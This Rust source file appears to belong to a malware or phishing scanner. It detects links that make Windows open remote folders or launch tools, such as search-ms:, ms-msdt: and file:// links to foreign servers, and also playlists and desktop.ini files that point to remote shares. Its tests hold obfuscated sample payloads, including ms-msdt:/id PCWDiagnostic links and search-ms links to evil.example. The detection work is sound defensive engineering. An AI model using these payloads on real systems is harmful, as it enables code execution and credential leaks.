//! Links that have Windows open a folder or a file of a stranger's computer, whoever clicks or not: in pages, play lists and settings.

use super::dde::fields;
use super::document::{field_arguments, rtf_links, rtf_templates};
use super::page::{is_attached_page, scripts, text};
use super::place::is_foreign_server;
use super::{has, is_pdf, name_ends};
use crate::file_name;
use crate::markup::{self, Tag};
use crate::walk::File;
use crate::walk::kind::Kind;
use crate::walk::pdf_text::{plain_names, targets};
use crate::walk::transfer::{Padding, base64};
use crate::walk::unfold::{self, WORDS_MAX, escape, hex_octet};

/// What a link can be in.
const PLACES: [&str; 12] = [
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "content",
    "value",
    "values",
    "to",
    "from",
    "background",
    "codebase",
];
/// What runs or opens a folder when it is opened from a file server.
const LAUNCHED: &str = "url library-ms search-ms searchconnector-ms lnk scf exe scr com msi bat cmd ps1 js jse vbs vbe wsf hta theme cpl jar";
/// Of an address or a text the beginning.
const TEXT_LONGEST: usize = 4096;

/// Addresses that a rule looks for.
struct Wanted {
    /// Whether an address that is [`dense`] is one of them.
    is: fn(&[u8]) -> bool,
    /// Whether it also says what is to be opened, as sentences about such addresses do not.
    is_whole: fn(&[u8]) -> bool,
    /// How they begin.
    words: &'static [&'static str],
    /// Whether what a stranger's file server has counts as well, if a page goes on to it or it runs.
    servers: bool,
    /// Whether a whole one counts in a script wherever it stands: what is before it may be cut off.
    anywhere: bool,
}

const SEARCH: Wanted = Wanted {
    is: is_search,
    is_whole: |address| {
        is_search(address) && ["query=", "crumb=", "source=", "{"].iter().any(|word| has(address, word))
    },
    words: &["search", "ms-search:", "ms-officecmd:", "ms-appinstaller:"],
    servers: true,
    anywhere: false,
};

pub(super) fn search_link(file: &File<'_>) -> bool {
    // The text of a mail runs no scripts.
    is_page(file) && SEARCH.is_in_page(&text(file), is_attached_page(file))
}

fn is_page(file: &File<'_>) -> bool {
    file.kind == Kind::Html || file.declared == "text/html" || is_attached_page(file)
}

const SUPPORT_TOOL: Wanted = Wanted {
    is: |address| address.starts_with(b"ms-msdt:"),
    is_whole: |address| {
        let switches = address.strip_prefix(b"ms-msdt:").filter(|rest| matches!(rest.first(), Some(b'/' | b'-')));
        switches.is_some_and(|rest| has(rest, "/id") || has(rest, "-id"))
    },
    words: &["ms-msdt:"],
    servers: false,
    anywhere: true,
};

/// A link that starts the support tool of Windows. A text that names such links is none.
pub(super) fn msdt(file: &File<'_>) -> bool {
    let is_xml = file.kind == Kind::Xml || name_ends(file, ".rels");
    let in_page = || (is_xml || is_page(file)) && SUPPORT_TOOL.is_in_page(&text(file), true);
    // Attributes of documents have many names.
    let is_target = |value: &[u8]| {
        let worth = matches!(value.trim_ascii_start(), [b'm' | b'M' | b'&', _, ..]);
        worth && (SUPPORT_TOOL.is)(&dense(&markup::beginning(value)))
    };
    let in_part = || is_xml && markup::tags(&text(file)).any(|tag| tag.attributes().any(|(_, value)| is_target(value)));
    let of_document = || {
        let fields = field_arguments(&fields(file).text).into_iter().map(|(_, argument)| argument);
        let actions = if is_pdf(file) { targets(&plain_names(file.data)) } else { Vec::new() };
        fields
            .chain(rtf_templates(file))
            .chain(rtf_links(file))
            .chain(actions)
            .any(|target| (SUPPORT_TOOL.is)(&dense(&target)))
    };
    in_page() || in_part() || of_document()
}

impl Wanted {
    fn is_in_page(&self, page: &[u8], with_scripts: bool) -> bool {
        let mut events = Events::default();
        if markup::tags(page).any(|tag| self.is_in_tag(&tag, &mut events, false)) || self.is_made_by(events.each()) {
            return true;
        }
        let scripts = if with_scripts { scripts(page) } else { Vec::new() };
        // A script may read its address from the page.
        let reads = with_scripts && !(scripts.is_empty() && events.ends.is_empty());
        self.is_in_text(&scripts)
            || self.is_made_by(std::iter::once(scripts.as_slice()))
            || (reads && self.begins_an_element(page))
    }

    fn is_in_tag(&self, tag: &Tag<'_>, events: &mut Events, is_inner: bool) -> bool {
        // These are followed without a click.
        let by_itself = ["meta", "iframe", "frame", "embed", "object"].iter().any(|name| tag.is(name));
        tag.attributes().any(|(name, value)| {
            let name = markup::local(name);
            // An event, or a page inside the page.
            if name.get(..2).is_some_and(|start| start.eq_ignore_ascii_case(b"on")) {
                let script = markup::resolved(value);
                events.add(&script);
                return self.is_in_text(&script) || self.is_in_runs(&script);
            }
            if name.eq_ignore_ascii_case(b"srcdoc") && !is_inner {
                return markup::tags(&markup::resolved(value)).any(|tag| self.is_in_tag(&tag, events, true));
            }
            if value.len() < 7 {
                return false;
            }
            if !PLACES.iter().any(|place| name.eq_ignore_ascii_case(place.as_bytes())) {
                return self.is_whole_at(value);
            }
            let value = markup::beginning(value);
            let address = if name.eq_ignore_ascii_case(b"content") { behind_url(&value) } else { &value };
            let dense = dense(address);
            let of_server = || by_itself || memchr::memchr(b'!', &dense).is_some() || is_launched(&dense);
            (self.is)(&dense) || (self.servers && is_foreign_server(&dense) && of_server())
        })
    }

    /// Whether the text of an element begins with such an address, from where a script may take it.
    fn begins_an_element(&self, page: &[u8]) -> bool {
        markup::tags(page).any(|tag| {
            let rest = &page[tag.begin + tag.text.len()..];
            let text = &rest[..memchr::memchr(b'<', rest).unwrap_or(rest.len())];
            self.is_whole_at(text.strip_prefix(b">").unwrap_or(text))
        })
    }

    fn is_whole_at(&self, text: &[u8]) -> bool {
        let text = text.trim_ascii_start();
        // Most begin with another letter.
        let first = |letter: &u8| {
            *letter == b'&' || self.words.iter().any(|word| word.as_bytes()[0] == letter.to_ascii_lowercase())
        };
        text.first().is_some_and(first) && (self.is_whole)(&dense(&markup::beginning(text)))
    }

    /// Whether scripts make such an address: from base64, from numbers, or from what names hold.
    fn is_made_by<'s>(&self, mut scripts: impl Iterator<Item = &'s [u8]> + Clone) -> bool {
        let words = unfold::words(scripts.clone());
        words.iter().any(|text| self.is_in_text(text)) || scripts.any(|script| self.is_in_runs(script))
    }

    /// Whether such an address stands in base64 in a script.
    fn is_in_runs(&self, script: &[u8]) -> bool {
        let letters = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
        let is_in_run =
            |run: &[u8]| (12..TEXT_LONGEST).contains(&run.len()) && self.is_in_text(&base64(run, Padding::EndsGroup));
        script.split(|byte| !letters(byte)).any(is_in_run)
    }

    /// Whether such an address stands in a text or script: whole, in pieces or in escapes.
    fn is_in_text(&self, text: &[u8]) -> bool {
        let joined = joined(text);
        let begins =
            |at: &usize| *at == 0 || !(joined[at - 1].is_ascii_alphanumeric() || b"-_".contains(&joined[at - 1]));
        let stretch = |at: usize| &joined[at..joined.len().min(at + TEXT_LONGEST)];
        let is_one =
            |at: usize| (begins(&at) && (self.is)(stretch(at))) || (self.anywhere && (self.is_whole)(stretch(at)));
        self.words.iter().any(|word| memchr::memmem::find_iter(&joined, word.as_bytes()).any(is_one))
    }
}

/// What the events of a page run. They are read together: each by itself they could name the same few letters again and again, and come to
/// gigabytes.
#[derive(Default)]
struct Events {
    text: Vec<u8>,
    ends: Vec<usize>,
}

impl Events {
    fn add(&mut self, script: &[u8]) {
        let room = WORDS_MAX - self.text.len();
        if room > 0 && !script.is_empty() {
            self.text.extend_from_slice(&script[..script.len().min(room)]);
            self.ends.push(self.text.len());
        }
    }

    fn each(&self) -> impl Iterator<Item = &[u8]> + Clone {
        let begins = std::iter::once(0).chain(self.ends.iter().copied());
        begins.zip(&self.ends).map(move |(begin, end)| &self.text[begin..*end])
    }
}

/// The address that a page goes on to: `0;url=...`. Nothing if it does not.
fn behind_url(content: &[u8]) -> &[u8] {
    let lower = content.to_ascii_lowercase();
    let behind = memchr::memmem::find(&lower, b"url").map(|at| content[at + 3..].trim_ascii_start());
    let address = behind.and_then(|rest| rest.strip_prefix(b"=")).unwrap_or_default().trim_ascii_start();
    address.strip_prefix(b"'").or_else(|| address.strip_prefix(b"\"")).unwrap_or(address)
}

/// An address as browsers read it: without white space in it, in small letters.
pub(super) fn dense(address: &[u8]) -> Vec<u8> {
    let plain = address.iter().filter(|byte| !byte.is_ascii_whitespace() && !byte.is_ascii_control());
    plain.map(u8::to_ascii_lowercase).collect()
}

/// An address that Windows opens as a search in a folder, which may be anywhere, or as a command.
pub(super) fn is_search(dense: &[u8]) -> bool {
    const SCHEMES: [&str; 4] = ["search-ms:", "ms-search:", "ms-officecmd:", "ms-appinstaller:"];
    const PARAMETERS: [&str; 4] = ["query=", "subquery=", "crumb=", "displayname="];
    // In a script this word is also the name of a value.
    let asks = |rest: &[u8]| {
        let rest = without_percents(rest);
        let begin = rest.iter().position(|byte| !b"/?".contains(byte)).unwrap_or(rest.len());
        let is_known = |part: &[u8]| PARAMETERS.iter().any(|word| part.starts_with(word.as_bytes()));
        // All before it are parameters as well.
        let name = |part: &[u8]| part.iter().position(|byte| *byte == b'=').map(|end| part[..end].to_vec());
        let is_one = |part: &&[u8]| name(part).is_some_and(|name| name.iter().all(u8::is_ascii_alphanumeric));
        rest[begin..].split(|byte| *byte == b'&').take_while(is_one).any(is_known) || has(&rest, "crumb=location")
    };
    SCHEMES.iter().any(|scheme| dense.starts_with(scheme.as_bytes()))
        || dense.strip_prefix(b"search:").is_some_and(asks)
}

/// With octets that are written as `%6c` as what they are.
fn without_percents(address: &[u8]) -> Vec<u8> {
    let (mut out, mut rest) = (Vec::with_capacity(address.len()), address);
    while let [first, behind @ ..] = rest {
        let octet = behind.get(..2).and_then(hex_octet).filter(|_| *first == b'%');
        out.push(octet.unwrap_or(*first).to_ascii_lowercase());
        rest = if octet.is_some() { &behind[2..] } else { behind };
    }
    out
}

/// The name of something that runs.
fn is_launched(dense: &[u8]) -> bool {
    let path = dense.split(|byte| b"?#".contains(byte)).next().unwrap_or_default();
    let extension = file_name::extension(&String::from_utf8_lossy(path)).unwrap_or_default();
    LAUNCHED.split(' ').any(|known| known == extension)
}

/// A script without the signs between the pieces of a text, and with its escapes read.
fn joined(script: &[u8]) -> Vec<u8> {
    let (mut out, mut rest) = (Vec::with_capacity(script.len()), script);
    while let [first, behind @ ..] = rest {
        let octet = behind.get(..2).and_then(hex_octet).filter(|_| *first == b'%');
        let (letter, length) = match (first, octet) {
            (b'\\', _) => escape(behind),
            (_, Some(octet)) => (Some(octet), 2),
            (first, None) => (Some(*first), 0),
        };
        rest = behind.get(length..).unwrap_or_default();
        out.extend(letter.filter(|letter| !letter.is_ascii_whitespace() && !b"\"'`+&,[]".contains(letter)));
    }
    out.make_ascii_lowercase();
    out
}

/// Play lists, and what Windows reads beside the files of a folder: they are followed as soon as they are seen, and the stranger learns the login.
pub(super) fn remote_file(file: &File<'_>) -> bool {
    const LISTS: [&str; 12] =
        [".m3u", ".m3u8", ".asx", ".wax", ".wvx", ".wmx", ".pls", ".wpl", ".xspf", ".ram", ".smil", ".smi"];
    let is_list = LISTS.iter().any(|end| name_ends(file, end));
    if !is_list && !name_ends(file, "desktop.ini") && !name_ends(file, "autorun.inf") {
        return false;
    }
    file.data.split(|byte| b"\r\n\"'<>=".contains(byte)).any(|piece| is_foreign_server(&dense(piece)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(name: &str, page: &str) -> bool {
        let names = [name.to_owned()];
        let data = page.as_bytes();
        let declared = if name.is_empty() { "text/html" } else { "" };
        search_link(&File { names: &names, declared, kind: Kind::of(data), data, in_archive: false })
    }

    #[test]
    fn links_are_read_as_browsers_read_them() {
        for page in [
            "<a href='search-ms:query=x'>",
            "<a href=\"sea\nrch-&#109;s:query=x\">",
            "<a href='search:query=invoice&crumb=location:x'>",
            "<meta http-equiv=refresh content=\"0;url=file://evil.example/share/a.exe\">",
            "<meta http-equiv=refresh content=\"0; URL = 'search-ms:query=x'\">",
            "<iframe src='\\\\evil.example\\a'></iframe>",
            "<a href='file://evil.example/a.library-ms'>",
            "<a href='file://evil.example/a.url?x'>",
            "<a href='file://evil.example/a!b'>",
            "<button onclick=\"location='search-ms:query=x'\">",
            "<iframe srcdoc=\"<a href='search-ms:query=x'>\"></iframe>",
            "<a href=\"search:syntax=aqs&query=a&crumb=%6cocation:\\\\evil.example\\s\">",
        ] {
            assert!(found("a.html", page) && found("", page), "{page}");
        }
        for script in [
            "location='sea'+'rch-'+'ms:query=x'",
            "location=\"\\x73earch\\u002dms:query=x\"",
            "location=unescape('%73earch-ms:query=x')",
            "location=['search-','ms:','q'].join('')",
            "location=atob('c2VhcmNoLW1zOnF1ZXJ5PXg=')",
            "location=String.fromCharCode(115,101,97,114,99,104,45,109,115,58,113,117,101,114,121,61,120)",
            "location=String.fromCharCode(115,101,97,114,99,104,45,109,115,58)+'query=x&crumb=location:\\\\evil.example\\s'",
            "location=String.fromCharCode(0x73,0x65,0x61,0x72,0x63,0x68,0x2d,0x6d,0x73,0x3a,0x71,0x75,0x65,0x72,0x79,0x3d,0x78)",
            "location='\\163earch\\u{2d}ms:query=x'",
            "eval('location=\\'sea\\'+\\x27rch-ms:query=x\\x27')",
            "var a='sea', b='rch-ms:'; location = a + b + 'query=invoice'",
            "location='sea~rch-~ms:query=x'.replace(/~/g,'')",
            "location='x=yreuq:sm-hcraes'.split('').reverse().join('')",
            "location = \"sea\" & \"rch-ms:query=x\"",
        ] {
            assert!(found("a.html", &format!("<html><script>{script}</script>")), "{script}");
        }
        // Many texts hide no numbers, and a long event no later one.
        let texts: String = (0..500).map(|number| format!("'this is text number {number}';")).collect();
        let list = "String.fromCharCode(115,101,97,114,99,104,45,109,115,58)+'query=x'";
        assert!(found("a.html", &format!("<html><script>{texts}location={list}</script>")));
        let padding = "x;".repeat(600_000);
        let event = "location=atob('c2VhcmNoLW1zOnF1ZXJ5PXg=')";
        assert!(found("a.html", &format!("<html><a onx=\"{padding}\"><a onclick=\"{event}\">")));
        for page in [
            "<html><p>Links that begin with search-ms: are dangerous.</p>",
            "<a href='https://a.example/?u=search-ms:x'>",
            "<a href='file://fs.corp.example/Share/Report.docx'>",
            "<iframe src='file:///C:/a.html'></iframe>",
            "<meta http-equiv=refresh content='5; url=https://a.example/'>",
            "<html><script>var research='ms:'; search(query='x')</script>",
            "<html><script>var site={search:'a', address:'https://a.example/?query=b'}</script>",
            "<a href='search:monday'>",
            "<html><script>var site={search:'a', address:'https://a.example/?a=1&query=b'}</script>",
        ] {
            assert!(!found("a.html", page) && !found("", page), "{page}");
        }
    }

    #[test]
    fn scripts_take_addresses_from_the_page() {
        let tool = |page: &str| {
            let (names, data) = (["a.html".to_owned()], page.as_bytes());
            msdt(&File { names: &names, declared: "", kind: Kind::of(data), data, in_archive: false })
        };
        for page in [
            "<a data-h=\"ms-msdt:/id PCWDiagnostic /skip force\" onclick=\"location=this.dataset.h\">x</a>",
            "<html><p id=a hidden> MS-msdt:/id x</p><script>location=a.textContent</script>",
            "<html><p id=a hidden>&#109;s-msdt:-skip force -id x</p><body onload='location=a.textContent'>",
            "<html><!--ms-msdt:/id x--><script>location=document.childNodes[0].data</script>",
            "<html><a onclick='a=\"ms-ms\"'><a onclick='location=a+\"dt:/id PCWDiagnostic\"'>",
            "<html><script>function u(){return \"ms-msdt:/id\"}location=u()+\" PCWDiagnostic /skip force\"</script>",
            "<html><script>location=\"xms-msdt:/id PCWDiagnostic\".slice(1)</script>",
        ] {
            assert!(tool(page), "{page}");
        }
        for page in [
            "<html><p title='ms-msdt: identifies the tool'>ms-msdt: links</p><script>print()</script>",
            "<html><p>Remove ms-msdt:/id links</p><p>ms-msdt: - is it gone?</p><script>print()</script>",
            "<html><code>ms-msdt:/id PCWDiagnostic</code>",
        ] {
            assert!(!tool(page), "{page}");
        }
        assert!(found("a.html", "<a data-h='search-ms:query=x&crumb=location:y' onclick='location=this.dataset.h'>"));
        assert!(!found("a.html", "<a title='search-ms: and others' onclick='print()'>"));
    }

    /// Each of these attributes by itself puts together 32 MiB.
    #[test]
    fn many_events_cost_no_more_than_one() {
        let mut script = "a='xxxxxxxxxxxxxxxx';".to_owned();
        for (name, before) in "bcdefgh".chars().zip("abcdefg".chars()) {
            script += &format!("{name}={};", [before.to_string().as_str(); 8].join("+"));
        }
        let pages = |length: usize| format!("<a onx=\"{script}\">").repeat(length / (script.len() + 10));
        let inside = format!("<iframe srcdoc=\"{}\">", pages(2 << 20).replace('"', "&quot;"));
        for page in [pages((4 << 20) - 1000), inside] {
            assert!(!found("a.html", &page));
            assert!(found("a.html", &format!("{page}<a onclick=\"location='sea'+'rch-ms:query=x'\">")));
        }
    }
}
